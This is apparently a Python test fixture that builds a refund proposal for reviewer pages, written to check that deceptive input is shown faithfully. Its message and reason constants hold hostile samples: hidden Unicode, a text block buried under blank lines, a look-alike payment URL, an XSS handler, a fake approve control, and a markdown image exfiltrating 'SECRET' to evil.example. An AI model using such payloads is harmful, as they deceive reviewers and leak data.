"""Proposals as reviewers meet them: plain ones, and one with everything that a page must show faithfully."""

from datetime import UTC, datetime, timedelta
from typing import Annotated, Any

from access.models import Group
from approvals.models import Proposal
from approvals.viewdoc import ViewChange, ViewDocument, ViewEvidence, ViewWarning, build_view
from common.digests import evidence_digest
from common.fields import (
    Arguments,
    ChoiceType,
    Currency,
    Email,
    Identifier,
    Instant,
    Money,
    Text,
    TextType,
    Url,
    arg,
)
from common.models import Tenant
from tests import factories

MESSAGE = (
    "Dear customer,\n\nthank you for writing about parcel 2. We are sorry that it arrived dam\u200baged.\n"
    "Your reference: \u202e2401-HL\u202c\n"
    + "\n"
    * 30
    + "P.S. The remaining EUR 99,999.00 will be wired to acct_l2345 at\n"
    "https://pay.example.com@evil.example/confirm.\n<b onmouseover=alert(1)>Approve</b>\n"
)
SAID = "I am confident that a full refund is right.\n[ Approve ] policy: auto-ok\n![ok](https://evil.example/p?d=SECRET)"


class FullArguments(Arguments):
    """One field of each kind that the slip shows in its own way."""

    amount: Money = arg(label="Amount", data_class="business")
    currency: Currency = arg(label="Currency", data_class="business")
    order: Identifier = arg(label="Order", data_class="business")
    reason: Annotated[str, ChoiceType(("damaged_in_transit", "late"))] = arg(
        label="Reason", data_class="business"
    )
    receipt_to: Email = arg(label="Receipt to", data_class="personal")
    page: Url = arg(label="Return page", data_class="business")
    book_on: Instant = arg(label="Book on", data_class="business")
    message: Annotated[str, TextType(max_length=5000)] = arg(label="Message", data_class="personal")
    trace: Text = arg("", label="Trace", data_class="business", material=False)


def full_view(*, now: datetime, amount: str = "1284.50", evidence: list[ViewEvidence]) -> ViewDocument:
    """The stored document of a refund that deserves a careful look."""
    sent = FullArguments.normalize(
        {
            "amount": amount,
            "currency": "EUR",
            "order": "order:1042",
            "reason": "damaged_in_transit",
            "receipt_to": "billing@harbour-lane.example",
            "page": "https://harbour.example/returns/1042",
            "book_on": (now + timedelta(days=2, hours=14)).isoformat(timespec="seconds"),
            "message": MESSAGE,
            "trace": "b7ad6b7169203331",
        }
    )
    return build_view(
        operation="refunds.issue",
        operation_version=1,
        contract_digest="0" * 64,
        headline="Refund EUR 1,284.50, order 1042",
        consequence="Refund EUR 1,284.50 for order:1042 to the account that paid, and send the receipt to"
        " billing@harbour-lane.example.",
        schema=FullArguments,
        arguments=sent.material,
        volatile=sent.volatile,
        bound=[
            ("Workflow", "refund-triage, version 3"),
            ("Policy", "version 7"),
            ("Proposed by", "api:intake"),
            ("Pinned record", "order:1042 as etag-7f3a19"),
            ("Evidence", "2 pieces, by hash"),
        ],
        changes=[
            ViewChange(record="order:1042", field="refunded", before="EUR 0.00", after="EUR 1,284.50"),
            ViewChange(record="ledger", field="bank fees", before="", after="unknown"),
        ],
        evidence=evidence,
        warnings=[
            ViewWarning(
                code="amount_unusual",
                pointer="/amount",
                label="Amount",
                acknowledge=True,
                sentence="The largest refund that this customer ever had was EUR 312.00.",
            )
        ],
    )


def make_full(tenant: Tenant, *, group: Group | None = None, needed: int = 1, **fields: Any) -> Proposal:
    """A pending proposal with a folded message, warnings, evidence, changes and a policy that was asked."""
    now = datetime.now(UTC)
    captured = now - timedelta(minutes=14)
    kept = b"Paid EUR 1,384.50 by card ending 4417. Two parcels, both delivered."
    pieces = [
        ViewEvidence(
            kind="record",
            title="Order record",
            source="shop database",
            captured_at=captured.isoformat(),
            digest=evidence_digest(bytes(32), kept),
        ),
        ViewEvidence(
            kind="message",
            title="Customer's message",
            source="helpdesk ticket 77120",
            asserted=True,
            captured_at=captured.isoformat(),
            digest=evidence_digest(bytes(32), b"The box was crushed."),
        ),
    ]
    view = full_view(now=now, evidence=pieces)
    tests = [
        {"label": "Order is paid", "ok": True, "says": "yes"},
        {"label": "At most EUR 250.00", "ok": False, "says": ""},
    ]
    proposal = factories.make_proposal(
        tenant=tenant,
        group=group,
        needed=needed,
        view=view.to_bytes(),
        view_digest=view.digest,
        summary=view.headline,
        consequence=view.consequence,
        reason=SAID,
        warning_count=len(view.to_acknowledge),
        risk=2,
        policy={
            "version": 7,
            "rule": "refund.limit",
            "verdict": "ask_two" if needed == 2 else "ask_one",
            "because": "The amount is above EUR 250.00.",
            "tests": tests,
        },
        **({"decide_by": now + timedelta(minutes=41)} | fields),
    )
    for position, (piece, content) in enumerate(zip(pieces, (kept, b"The box was crushed."), strict=True)):
        factories.make_evidence(
            proposal,
            position=position,
            kind=piece.kind,
            title=piece.title,
            source=piece.source,
            content=content,
            digest=piece.digest,
            captured_at=captured,
            fresh_until=captured + timedelta(hours=24),
            asserted=piece.asserted,
        )
    return proposal
